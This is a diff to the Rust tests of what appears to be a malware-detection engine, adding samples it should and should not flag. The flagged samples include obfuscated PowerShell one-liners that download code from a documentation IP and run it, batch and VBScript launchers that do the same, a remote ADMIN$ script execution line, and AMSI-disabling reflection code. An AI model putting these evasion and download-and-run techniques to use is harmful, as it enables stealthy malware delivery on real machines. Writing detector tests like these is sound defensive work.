@@ -7,7 +7,7 @@ use crate::content::{ContentConfig, Kind, Unfolding, unfold};
 use crate::registry::REGISTRY;
 
 fn unfolded(text: &str, kind: Kind) -> Unfolding {
-    unfold(text.as_bytes(), kind, super::NAMES, &ContentConfig::default())
+    unfold(text.as_bytes(), kind, &super::NAMES, &ContentConfig::default())
 }
 
 /// Ids and severities.
@@ -81,6 +81,13 @@ fn a_download_that_is_run_is_told_however_it_is_written() {
         "iex ('iZZex (irm httZZp://a)' -replace 'ZZ','')",
         "iex ('iZZex (irm httZZp://a)'.Replace('ZZ',''))",
         "iex ([char]105+[char]101+[char]120+' (irm http://a)')",
+        "(New-Object Net.WebClient).DownloadString('http://203.0.113.7/a') | & (gcm i*x)",
+        "& ((gv '*mdr*').Name[3,11,2]-join'') (irm http://203.0.113.7/a)",
+        "SV q 'ie';SV r 'x';.((LS Variable:q).Value+(LS Variable:/r).Value) (irm http://203.0.113.7/a)",
+        "Set-Item Variable:/z 'iex';&(Get-Item Variable:z).Value (irm http://203.0.113.7/a)",
+        "$a='(New-Object Net.WebClient)';$b='.DownloadString(''http://203.0.113.7/a'')';iex ($a+$b|iex)",
+        "function Get-It($u) { (New-Object Net.WebClient).DownloadString($u) }\niex (Get-It 'http://203.0.113.7/a')",
+        "function script:get-it { param($u)\n return irm $u }; Get-It http://203.0.113.7/a | iex",
         "iex (-join (44,32,61,101,109,44,55,40,101,45,49,49,53,127,106,106,36,108 | % { [char]($_ -bxor 69) }))",
     ] {
         assert!(sids(text, Kind::Script).contains(&9_403_003), "{text}\n{:#?}", unfolded(text, Kind::Script));
@@ -102,6 +109,8 @@ fn a_download_that_is_not_run_is_not_told() {
         "$r = iwr https://example.com/hash.txt; if ($r.Content -eq $hash) { 'same' }",
         "Get-Help iex; $x = 'DownloadString'",
         "curl -o a.zip https://example.com/a.zip | iex",
+        "function Get-It($u) { irm $u }\nGet-It https://example.com/a | Out-File a.txt; iex 'Get-It'",
+        "(gv x).Value; (Get-Item a.txt).Name | iex; irm https://example.com/a",
     ] {
         assert!(sids(text, Kind::Script).is_empty(), "{text}");
     }
@@ -153,6 +162,30 @@ fn commands_are_read_as_windows_reads_them() {
 }
 
 #[test]
+fn files_of_other_interpreters_call_it_too() {
+    for text in [
+        "@echo off\r\ncall powershell -nop -c \"iex(irm http://203.0.113.7/a)\"\r\n",
+        "if not exist C:\\a.txt powershell -nop -c \"iex(irm http://203.0.113.7/a)\"\r\n",
+        "@echo off\r\nset x=$y\r\np^ower^shell -c \"iex(irm http://203.0.113.7/a)\"\r\n",
+        "Set shell = CreateObject(\"WScript.Shell\")\r\nshell.Run \"powershell -w hidden -c iex(irm http://203.0.113.7/a)\", 0\r\n",
+        "CreateObject(\"WScript.Shell\").Run \"cmd /c powershell -c \"\"iex(irm http://203.0.113.7/a)\"\"\"\r\n",
+        "new ActiveXObject('WScript.Shell').Run('powershell -c iex(irm http://203.0.113.7/a)');",
+    ] {
+        assert_eq!(sids(text, Kind::Unknown), [9_403_003], "{text}");
+    }
+    let lateral = "@echo off\r\np^ower^shell -noni -nop -exe bypass -f \\\\host\\ADMIN$\\temp\\a1B2c3D4e5F6.ps1\r\n";
+    assert_eq!(sids(lateral, Kind::Unknown), [9_403_005]);
+    for text in [
+        "shell.Run \"notepad powershell iex(irm http://203.0.113.7/a)\"\r\n",
+        "log.Write \"powershell -c iex(irm http://203.0.113.7/a)\"\r\n",
+        "@echo off\r\necho call powershell -c iex(irm http://203.0.113.7/a)\r\n",
+        "copy \\\\srv\\c$\\temp\\a.log .\r\nif %ERRORLEVEL% NEQ 0 echo failed^!\r\n",
+    ] {
+        assert_eq!(sids(text, Kind::Unknown), [0; 0], "{text}");
+    }
+}
+
+#[test]
 fn encoded_commands_count_with_flags() {
     let code = wide("Write-Output 'inert check alpha'; whoami");
     for flag in ["-EncodedCommand", "-e", "-enc", "-ec", "/enc", "-eNcOd", "\u{2013}enc", "--enc"] {
@@ -193,7 +226,7 @@ fn layers_are_followed_into_each_other() {
         assert_eq!(sids(&text, Kind::Script), [9_403_003], "{text}\n{:#?}", unfolded(&text, Kind::Script));
     }
     let of_file = |bytes: Vec<u8>| {
-        let unfolding = unfold(&bytes, Kind::Unknown, super::NAMES, &ContentConfig::default());
+        let unfolding = unfold(&bytes, Kind::Unknown, &super::NAMES, &ContentConfig::default());
         conditions(&unfolding, &ContentConfig::default()).iter().map(|told| told.meta.sid).collect::<Vec<_>>()
     };
     assert_eq!(of_file(compressed(flate2::read::GzEncoder::new(inner.as_bytes(), flate2::Compression::default()))), [9_403_003]);
@@ -276,6 +309,8 @@ fn watching_switched_off() {
     for text in [
         "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)",
         "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUt'+'ils').GetField('am'+'siInit'+'Failed','NonPublic,Static').SetValue($null,$true)",
+        "$f=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiContext','NonPublic,Static').GetValue($null);\
+         [Runtime.InteropServices.Marshal]::WriteInt32($f,0x41424344)",
         "[Reflection.Assembly]::Load([Convert]::FromBase64String($x))",
         "[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://203.0.113.7/a'))",
         "$b=(New-Object Net.WebClient).DownloadData('http://203.0.113.7/a'); [AppDomain]::CurrentDomain.Load($b)",
@@ -413,7 +448,7 @@ fn benign_scripts_raise_no_severe_alert() {
             let bytes = std::fs::read(&path).unwrap();
             seen += 1;
             for kind in [Kind::Unknown, Kind::Script] {
-                let unfolding = unfold(&bytes, kind, super::NAMES, &ContentConfig::default());
+                let unfolding = unfold(&bytes, kind, &super::NAMES, &ContentConfig::default());
                 let met = conditions(&unfolding, &ContentConfig::default()).into_iter();
                 let severe = met.filter(|told| told.severity.unwrap_or(told.meta.severity) < 3);
                 all.extend(severe.map(|told| format!("{} {kind:?}: {} {:?}", path.display(), told.meta.sid, told.evidence)));
